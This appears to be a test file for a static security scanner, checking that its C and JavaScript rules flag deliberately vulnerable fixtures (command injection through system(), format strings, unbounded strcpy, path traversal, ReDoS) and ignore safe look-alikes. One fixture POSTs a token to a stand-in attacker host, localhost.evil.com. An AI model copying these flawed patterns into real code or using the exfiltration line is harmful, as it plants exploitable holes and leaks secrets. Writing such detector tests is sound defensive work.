// The C and JavaScript rules that close the gap to flawfinder and eslint-plugin-security, attacked:
// the flaw written the way real code (or an attacker hiding it) writes it must still be found, and the
// look-alike safe forms must stay quiet.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { scanText } from '../../src/engine/scan.ts';

const hits = (path: string, text: string, rule: string) =>
  scanText(path, text)
    .findings.filter((f) => f.ruleId === rule && !f.suppressed)
    .map((f) => `${f.line}:${f.severity}`);

test('C: stat() check then open() of the same path many lines later in one function: medium race finding', () => {
  const filler = Array.from({ length: 200 }, (_, i) => `    log_line(${i});`).join('\n');
  const src = `int f(const char *p) {\n    struct stat s;\n    if (stat(p, &s) || !S_ISREG(s.st_mode)) return -1;\n${filler}\n    return open(p, O_RDWR);\n}\n`;
  assert.deepEqual(hits('x.c', src, 'c.toctou-check-then-open'), ['3:medium']);
});

test('C: access() of one path and open() of another path: no race finding', () => {
  const src = `int f(const char *a, const char *b) {\n    if (access(a, R_OK)) return -1;\n    return open(b, O_RDONLY);\n}\n`;
  assert.deepEqual(hits('x.c', src, 'c.toctou-check-then-open'), []);
});

test('C: rand() reaching a password through a charset lookup in a helper named for salts: medium', () => {
  const src = `void gen_salt(char *out, int n) {\n    for (int i = 0; i < n; i++) out[i] = "./0123456789ABCDEF"[rand() & 15];\n}\n`;
  assert.deepEqual(hits('x.c', src, 'c.weak-random-secret'), ['2:medium']);
});

test('C: rand() for a game die or a jitter delay: no secret finding (low weak-random only)', () => {
  const src = `int roll(void) { return rand() % 6; }\nvoid backoff(int *delay_ms) { *delay_ms = 100 + rand() % 50; }\n`;
  assert.deepEqual(hits('x.c', src, 'c.weak-random-secret'), []);
  assert.equal(hits('x.c', src, 'c.weak-random').length, 2);
});

test('C: syslog / fprintf / snprintf formats taken from a struct field, an array element or a call: high', () => {
  const src = [
    'void f(struct m *m, char **v, FILE *o, char *b, size_t n) {',
    '    syslog(LOG_WARNING, m->fmt);',
    '    fprintf(o, v[1]);',
    '    snprintf(b, n, pick_format(m));',
    '    syslog(LOG_WARNING, "%s", m->fmt);',
    '}',
  ].join('\n');
  assert.deepEqual(hits('x.c', src, 'c.format-string-expression'), ['2:high', '3:high', '4:high']);
});

test('C: crypt() with a salt read at run time is flagged; with a literal SHA-512 salt prefix it is not', () => {
  const src = 'void f(char *pw, char *salt) {\n    use(crypt(pw, salt));\n    use(crypt(pw, "$6$saltsalt$"));\n}\n';
  assert.deepEqual(hits('x.c', src, 'c.crypt'), ['2:medium']);
});

test('JS: plain http:// to a host that only starts with "localhost" (localhost.evil.com): flagged', () => {
  const src =
    "fetch('http://localhost.evil.com/x', { method: 'POST', body: token });\nfetch('http://localhost:3000/x');\n";
  assert.deepEqual(hits('x.js', src, 'js.cleartext-http-request'), ['1:medium']);
});

test('JS: http:// only in a comment, an XML namespace or a docs link string: not flagged', () => {
  const src = [
    '// see http://example.com/docs',
    "const ns = 'http://www.w3.org/1999/xhtml';",
    "const docs = 'http://example.com/help';",
    "el.setAttributeNS('http://www.w3.org/1999/xlink', 'href', url);",
  ].join('\n');
  assert.deepEqual(hits('x.js', src, 'js.cleartext-http-request'), []);
});

test('JS: a 200 KB minified line full of quantified groups is scanned within 10 s (no backtracking blow-up)', () => {
  const line = 'var r=/(a+b)+c/,s="((((a*)*"+"(\\\\w+)x";'.repeat(5000);
  const t0 = performance.now();
  scanText('bundle.min.js', line);
  assert.ok(performance.now() - t0 < 10000);
});

test('JS: nested-quantifier regex built as a RegExp string is flagged; the same groups without the outer + are not', () => {
  const src = "const a = new RegExp('^([a-zA-Z0-9]+)*$');\nconst b = new RegExp('^([a-zA-Z0-9]+)$');\n";
  assert.deepEqual(hits('x.js', src, 'js.redos-nested-quantifier'), ['1:medium']);
});

test('JS: request data copied to a variable, then used as a path two statements later: high', () => {
  const src = [
    "app.post('/up', (req, res) => {",
    '  const target = req.body.dest;',
    '  const data = req.body.content;',
    "  fs.writeFileSync('/var/uploads/' + target, data);",
    '});',
  ].join('\n');
  assert.deepEqual(hits('x.js', src, 'js.path-from-request-variable'), ['4:high']);
});

test('JS: Buffer.allocUnsafe turned into text for a response without a fill: medium; after fs.readSync into it: none', () => {
  const bad =
    "app.get('/x', (req, res) => {\n  const b = Buffer.allocUnsafe(4096);\n  res.end(b.toString('hex'));\n});\n";
  assert.deepEqual(hits('x.js', bad, 'js.unsafe-buffer-exposed'), ['2:medium']);
  const good =
    "app.get('/x', (req, res) => {\n  const b = Buffer.allocUnsafe(4096);\n  fs.readSync(fd, b, 0, 4096, 0);\n  res.end(b);\n});\n";
  assert.deepEqual(hits('x.js', good, 'js.unsafe-buffer-exposed'), []);
});

test('JS: jQuery .html() of a concatenated string hidden in a chained selector: flagged; .html() of a jQuery element: not', () => {
  const src = [
    "$('#list').find('li').first().html('<b>' + user.name + '</b>');",
    "$('#list').html($('<li>').text(user.name));",
  ].join('\n');
  assert.deepEqual(hits('x.js', src, 'js.jquery-html-injection'), ['1:medium']);
});

// The proofs that drop a copy or a command as harmless (src/analyzers/code/bounds-c.ts), attacked: each
// evasion changes what was proved between the proof and the use, and must keep the finding.
test('C: source measured for malloc, then pointed at a longer string before strcpy: still an unbounded copy', () => {
  const src = [
    'char *f(const char *a, const char *b) {',
    '    char *d = malloc(strlen(a) + 1);',
    '    a = b;',
    '    strcpy(d, a);',
    '    return d;',
    '}',
  ].join('\n');
  assert.deepEqual(hits('x.c', src, 'c.unbounded-copy'), ['4:high']);
});

test('C: source measured, then appended to with strcat before being copied: still an unbounded copy', () => {
  const src = [
    'char *f(char *a) {',
    '    char *d = malloc(strlen(a) + 1);',
    '    strcat(a, "-suffix");',
    '    strcpy(d, a);',
    '    return d;',
    '}',
  ].join('\n');
  assert.ok(hits('x.c', src, 'c.unbounded-copy').includes('4:high'));
});

test('C: destination allocated twice (the second too small) or sized with a subtraction: still flagged', () => {
  const twice =
    'void f(const char *a) {\n    char *d = malloc(strlen(a) + 1);\n    d = malloc(4);\n    strcpy(d, a);\n}\n';
  assert.deepEqual(hits('x.c', twice, 'c.unbounded-copy'), ['4:high']);
  const minus = 'void f(const char *a) {\n    char *d = malloc(strlen(a) + 8 - 8);\n    strcpy(d, a);\n}\n';
  assert.deepEqual(hits('x.c', minus, 'c.unbounded-copy'), ['3:high']);
});

test('C: a literal-initialised command buffer later filled by snprintf, or a macro of getenv(): command injection', () => {
  const buf = [
    'void f(const char *user) {',
    '    char cmd[128] = "true";',
    '    snprintf(cmd, sizeof cmd, "ls %s", user);',
    '    system(cmd);',
    '}',
  ].join('\n');
  assert.deepEqual(hits('x.c', buf, 'c.command-injection'), ['4:high']);
  const macro = '#define RUN_ME getenv("PAYLOAD")\nvoid f(void) {\n    system(RUN_ME);\n}\n';
  assert.deepEqual(hits('x.c', macro, 'c.command-injection'), ['3:high']);
});

test('C: the ordinary forms stay quiet: strdup by hand, a fixed openssl command, memcpy of the array size', () => {
  const src = [
    '#define KEYGEN "openssl genpkey -algorithm ed25519"',
    'char *dup(const char *s) {',
    '    char *d = (char *)malloc(strlen(s) + 1);',
    '    strcpy(d, s);',
    '    system(KEYGEN);',
    '    unsigned char iv[16];',
    '    memcpy(iv, s, 16);',
    '    return d;',
    '}',
  ].join('\n');
  for (const rule of ['c.unbounded-copy', 'c.command-injection', 'c.stack-buffer-copy'])
    assert.deepEqual(hits('x.c', src, rule), [], rule);
});
